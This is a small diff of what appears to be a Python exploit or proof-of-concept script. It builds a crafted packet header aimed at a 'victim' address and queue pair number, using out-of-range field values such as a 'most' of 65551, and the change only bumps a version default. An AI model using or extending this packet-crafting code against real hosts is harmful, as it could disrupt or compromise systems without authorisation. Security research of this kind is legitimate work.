@@ -7,7 +7,7 @@
 victim = socket.inet_pton(socket.AF_INET6, sys.argv[1])
 victim_qpn = int(sys.argv[2], 0)
 
-def private(qpn=victim_qpn, mtu=65524, extension=True, version=1, credits=64, most=65551, lane=0):
+def private(qpn=victim_qpn, mtu=65524, extension=True, version=2, credits=64, most=65551, lane=0):
     base = struct.pack("!II", qpn, mtu)
     ours = struct.pack("!4sBBHIB3x", b"iprs", version, 0x30, credits, most, lane)
     return base + (ours if extension else b"")
